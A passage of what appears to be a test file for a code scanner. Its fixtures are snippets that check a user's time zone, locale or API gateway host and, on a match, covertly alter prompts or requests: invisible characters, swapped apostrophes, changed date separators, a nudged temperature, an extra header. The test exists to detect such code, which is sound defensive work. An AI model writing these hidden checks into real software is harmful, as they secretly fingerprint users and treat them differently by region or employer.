      code: `(() => {\n  var M = {\n    101: (m) => { m.exports = { zone: () => Intl.DateTimeFormat().resolvedOptions().timeZone }; },\n    202: (m, e, r) => { const z = r(101); const L = ["Asia/Shanghai", "Asia/Urumqi"]; e.flag = () => L.includes(z.zone()); },\n    303: (m, e, r) => { const f = r(202); e.prompt = (d) => \`Today is \${f.flag() ? d.replace(/-/g, "/") : d}\`; },\n  };\n  var c = {};\n  function r(id) { if (c[id]) return c[id].exports; var m = (c[id] = { exports: {} }); M[id](m, m.exports, r); return m.exports; }\n  console.log(r(303).prompt("2026-01-01"));\n})();`,
      findings: [{ severity: 'critical', line: 5, message: /Asia\/Shanghai, Asia\/Urumqi/ }],
    },
    // A separator flip written as split and join.
    {
      code: `const cn = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nconst iso = new Date().toISOString().slice(0, 10);\nconst prompt = \`Current date: \${cn ? iso.split("-").join(".") : iso}\`;`,
      findings: [{ severity: 'critical', line: 3, message: /"-" becomes "\."/ }],
    },
    // The steering check names its places in the finding itself.
    {
      code: `const h = new URL(process.env.OPENAI_BASE_URL).hostname;\nconst corp = ["corp-a.com", "corp-b.net", "corp-c.io"].some((x) => h.endsWith(x));\nconst t = corp ? 0.70000001 : 0.7;`,
      findings: [{ severity: 'critical', line: 3, message: /compared with corp-a\.com, corp-b\.net, corp-c\.io/ }],
    },
    {
      code: `${zone}\nconst mark = String.fromCodePoint(0x27 + (cn ? 0x2019 - 0x27 : 0));\nconst prompt = \`Today\${mark}s date is 2026-01-01.\`;`,
      findings: [{ severity: 'critical', line: 2, message: /U\+2019/ }],
    },
    {
      code: `${zone}\nconst fmt = cn ? { month: "2-digit", day: "2-digit" } : { month: "long", day: "numeric" };\nconst prompt = \`Today's date is \${new Date().toLocaleDateString("en-US", fmt)}.\`;`,
      findings: [{ severity: 'critical', line: 3, message: /month: "long".*becomes.*month: "2-digit".*prompt-like/ }],
    },
    // A member set on an instance outside its class (also in a static factory that returns it), read as `this.tz` in a getter or method.
    {
      code: `class Probe {\n  static async create() { const t = new Probe; return t.tz = Intl.DateTimeFormat().resolvedOptions().timeZone, t; }\n  get hit() { return ["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(this.tz); }\n}\n(async () => { const p = await Probe.create(); fetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: p.hit ? "It\\u2019s fine" : "It's fine" }) }); })();`,
      findings: [{ severity: 'critical', line: 5, message: /U\+2019.*Asia\/Shanghai/ }],
    },
    {
      code: `class Env { check() { return ["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(this.zone); } }\nconst e = new Env();\ne.zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: e.check() ? "It\\u2019s fine" : "It's fine" }) });`,
      findings: [{ severity: 'critical', line: 4, message: /U\+2019.*Asia\/Shanghai/ }],
    },
    // The pairs a generator yields, made an object (`Object.fromEntries(facts())`).
    {
      code: `function* facts() { yield ["tz", Intl.DateTimeFormat().resolvedOptions().timeZone]; yield ["lang", process.env.LANG]; }\nconst f = Object.fromEntries(facts());\nconst hit = ["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(f.tz);\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: hit ? "Don\\u2019t stop" : "Don't stop" }) });`,
      findings: [{ severity: 'critical', line: 4, message: /U\+2019.*Asia\/Shanghai/ }],
    },
    // A member of the record a zone check picks, or the usual text: through a name tested first, or destructured with a default.
    {
      code: `const RULES = [{ z: "Asia/Shanghai", m: "\\u2019" }, { z: "Asia/Urumqi", m: "\\u2019" }, { z: "Asia/Harbin", m: "\\u2019" }];\nconst r = RULES.find((x) => x.z === Intl.DateTimeFormat().resolvedOptions().timeZone);\nconst m = r ? r.m : "'";\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: \`It\${m}s\` }) });`,
      findings: [{ severity: 'critical', line: 3, message: /U\+2019.*Asia\/Shanghai/ }],
    },
    {
      code: `const RULES = [{ z: "Asia/Shanghai", m: "\\u2019" }, { z: "Asia/Urumqi", m: "\\u2019" }, { z: "Asia/Harbin", m: "\\u2019" }];\nconst { m = "'" } = RULES.find(({ z }) => z === Intl.DateTimeFormat().resolvedOptions().timeZone) ?? {};\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: \`It\${m}s\` }) });`,
      findings: [{ severity: 'critical', line: 2, message: /U\+2019.*Asia\/Shanghai/ }],
    },
    // One date written in a locale's format against a part of its ISO text.
    {
      code: `${zone}\nconst d = new Date();\nconst stamp = cn ? d.toLocaleDateString("en-US") : d.toISOString().slice(0, 10);\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: "Today is " + stamp }) });`,
      findings: [{ severity: 'critical', line: 3, message: /format of a date/ }],
    },
    {
      code: `${zone}\nconst ap = cn ? "\\u2019" : "'";\nconst prompt = \`Today\${ap}s date is 2026-01-01.\`;`,
      findings: [{ severity: 'critical', line: 2, message: /U\+2019/ }],
      check: (f) => assert.strictEqual((f[0].evidence.sink as { kind: string }).kind, 'prompt-like text'),
    },
    {
      code: `${zone}\nfunction today(d) { return cn ? d.replace(/-/g, "/") : d; }`,
      findings: [{ severity: 'critical', line: 2, message: /"-" becomes "\/"/ }],
    },
    {
      code: `${zone}\nconst ua = "agent/1.0" + (cn ? "\\u200b" : "");\nfetch("https://api.example.com", { headers: { "User-Agent": ua } });`,
      findings: [{ severity: 'critical', line: 2, message: /U\+200B/ }],
    },
    {
      code: `const h = new URL(process.env.AGENT_BASE_URL).hostname;\nconst known = ["a.cn", "b.cn", "c.cn"].includes(h);\nconst sep = [" ", "\\u00a0"][known ? 1 : 0];\nconst text = "You are an assistant." + sep;`,
      findings: [{ severity: 'critical', line: 3 }],
    },
    // Characters without a glyph beyond the zero-width ones: a soft hyphen, a variation selector.
    {
      code: `${zone}\nconst sys = (p) => (cn ? p + "\\u00ad" : p);`,
      findings: [{ severity: 'critical', line: 2, message: /marker "\\u\{AD\}" added/ }],
    },
    {
      code: `${zone}\nconst sys = (p) => (cn ? p.replace("You", "You\\ufe0f") : p);`,
      findings: [{ severity: 'critical', line: 2 }],
    },
    // A flag handed to a setter (`setVariant(hit ? 1 : 0)`) and read back through a getter.
    {
      code: `let variant = 0;\nfunction setVariant(v) { variant = v; }\nfunction getVariant() { return variant; }\nsetVariant(["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) ? 1 : 0);\nconst sys = (t) => (getVariant() ? t.replace(/'/g, "\\u2019") : t);`,
      findings: [{ severity: 'critical', line: 5 }],
    },
    {
      code: `${zone}\nlet text = "You're a helpful assistant";\nif (cn) text = text.replace(/'/g, "\\u02bc");`,
      findings: [{ severity: 'critical', line: 3 }],
    },
    // Look-alikes chosen by a locale written in Latin letters are most likely its typography: reported, but low.
    {
      code: `const de = Intl.DateTimeFormat().resolvedOptions().locale === "de-DE";\nconst q = de ? "\\u2019" : "'";`,
      findings: [{ severity: 'low', line: 2 }],
    },
    // A Headers object given one more header only under a check of companies' gateways.
    {
      code: `const host = new URL(process.env.OPENAI_BASE_URL).hostname;\nconst h = new Headers();\nif (["acme-corp.com", "initech.io", "globex.net"].some((o) => host.endsWith(o))) h.set("x-retry", "1");\nfetch("https://api.example.dev/v1", { headers: h });`,
      findings: [{ severity: 'critical', line: 3, message: /extra field "x-retry"/ }],
    },
    // A variable given an invisible suffix under a zone check, in an event listener the zone is emitted to.
    {
      code: `const { EventEmitter } = require("events");\nconst bus = new EventEmitter();\nlet suffix = "";\nbus.on("env", (tz) => { if (["Asia/Shanghai", "Asia/Urumqi"].includes(tz)) suffix = "\\u2060"; });\nbus.emit("env", Intl.DateTimeFormat().resolvedOptions().timeZone);\nconst prompt = "Be concise." + suffix;`,
      findings: [{ severity: 'critical', line: 4, message: /U\+2060/ }],
    },
    // A configuration merged with overrides under a place check: the separator of a date, a nudged temperature.
    {
      code: `${zone}\nconst defaults = { sep: "-", temperature: 0.7 };\nconst overrides = { sep: "/" };\nconst cfg = { ...defaults, ...(cn ? overrides : {}) };\nconsole.log("Today's date is " + new Date().toISOString().slice(0, 10).split("-").join(cfg.sep));`,
      findings: [{ severity: 'critical', line: 4, message: /"-" becomes "\/"/ }],
    },
    {
      code: `${zone}\nconst cfg = Object.assign({}, { sep: "-" }, cn ? { sep: "/" } : {});`,
      findings: [{ severity: 'critical', line: 2, message: /"-" becomes "\/"/ }],
    },
    {
      code: `${zone}\nconst body = { ...{ temperature: 0.7 }, ...(cn && { temperature: 0.70000001 }) };\nfetch("https://api.example.dev/v1", { method: "POST", body: JSON.stringify(body) });`,
      findings: [{ severity: 'critical', line: 2, message: /its member temperature/ }],
    },
    // A subclass that flips what its parent's method returns, chosen as a class (also written in place).
    {
      code: `${zone}\nclass R { date(d) { return d.toISOString().slice(0, 10); } }\nclass Alt extends R { date(d) { return super.date(d).replace(/-/g, "/"); } }\nconst C = cn ? Alt : R;\nconsole.log("Today's date is " + new C().date(new Date()));`,
      findings: [{ severity: 'critical', line: 4 }],
    },
    {
      code: `${zone}\nclass e { date(d) { return d.toISOString().slice(0, 10); } }\nconst s = cn ? class extends e { date(d) { return super.date(d).replace(/-/g, "/"); } } : e;\nconsole.log("Today's date is " + new s().date(new Date()));`,
      findings: [{ severity: 'critical', line: 3 }],
    },
    // Two dates written out, one with the other separator throughout.
    {
      code: `${zone}\nconsole.log("Today's date is " + (cn ? "2026/01/01" : "2026-01-01"));`,
      findings: [{ severity: 'critical', line: 2, message: /"-" becomes "\/"/ }],
    },
    // Chosen by a Chinese locale for an apostrophe in Latin text: no typography of Chinese, covert.
    {
      code: `const zh = Intl.DateTimeFormat().resolvedOptions().locale === "zh-CN";\nconst q = zh ? "\\u2019" : "'";`,
      findings: [{ severity: 'critical', line: 2 }],
    },
    // A class's private list read in a callback its promise runs, the outcome awaited elsewhere.
    {
      code: `class Region {\n  #zones = ["Asia/Shanghai", "Asia/Urumqi", "Asia/Kashgar"];\n  detect() { return Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then((z) => this.#zones.includes(z)); }\n}\nexport async function prompt(date) { const f = await new Region().detect(); return \`Today\${f ? "\\u2019" : "'"}s date is \${date}\`; }`,
      findings: [{ severity: 'critical', line: 5 }],
    },
    // A list filled by push in a loop, its items taken one by one or by index; also as minified (`return t.forEach(…), n`).
    ...[
      'zones().some((m) => ["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(m))',
      '["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(zones()[0])',
    ].flatMap((check) => [
      `function zones() { const out = []; for (const f of [Intl.DateTimeFormat(), new Intl.DateTimeFormat("en-US")]) out.push(f.resolvedOptions().timeZone); return out; }`,
      `function zones() { const n = []; return [Intl.DateTimeFormat(), new Intl.DateTimeFormat("en-US")].forEach((f) => n.push(f.resolvedOptions().timeZone)), n; }`,
    ].map((fn) => ({
      code: `${fn}\nconst hit = ${check};\nfetch("https://api.vendor.dev/v1", { method: "POST", headers: hit ? { "x-e": "1" } : {}, body: "{}" });`,
      findings: [{ severity: 'critical' as const, line: 3 }],
    }))),
  ],
});
